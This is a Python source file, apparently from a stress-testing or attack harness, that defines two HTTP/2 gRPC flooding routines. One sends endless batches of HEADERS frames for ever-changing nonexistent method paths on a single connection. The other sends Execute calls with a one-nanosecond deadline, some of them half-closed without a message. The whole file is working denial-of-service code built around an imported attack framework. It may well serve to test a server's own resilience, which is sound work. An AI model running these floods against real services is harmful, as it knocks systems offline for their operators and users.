"""Methods that nobody has, by the hundred thousand, each with another name; calls whose deadline is over before they
come; calls that half-close without a message.
"""

import hpack
import http2
import wire
from attack import Attack, Target, run
from http2 import END_HEADERS, END_STREAM, frame

COMMON = b"".join(
    hpack.literal(name, value)
    for name, value in (
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "x"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    )
)


def strange(target: Target) -> None:
    connection = target.connect(target.index)
    for first in range(0, 1 << 30, 50):
        out = bytearray()
        for i in range(first, first + 50):
            block = COMMON + hpack.literal(":path", f"/{'x' * (i % 300)}/{i}")
            out += frame(http2.HEADERS, END_HEADERS | END_STREAM, connection.next_stream(), block)
        connection.send(bytes(out))
        connection.poll(0)


def late(target: Target) -> None:
    request = http2.framed(wire.execute(wire.l1_loss([1 << 22], 1), [wire.floats(1.0)]))
    block = http2.request_headers("Execute", "1n")
    connection = target.connect(1)
    while True:
        out = bytearray()
        for i in range(50):
            stream = connection.next_stream()
            out += frame(http2.HEADERS, END_HEADERS, stream, block)
            out += frame(http2.DATA, END_STREAM, stream, request if i % 5 else b"")
        connection.send(bytes(out))
        connection.poll(0)


if __name__ == "__main__":
    run(Attack([strange, late], spares=["backlog"]))
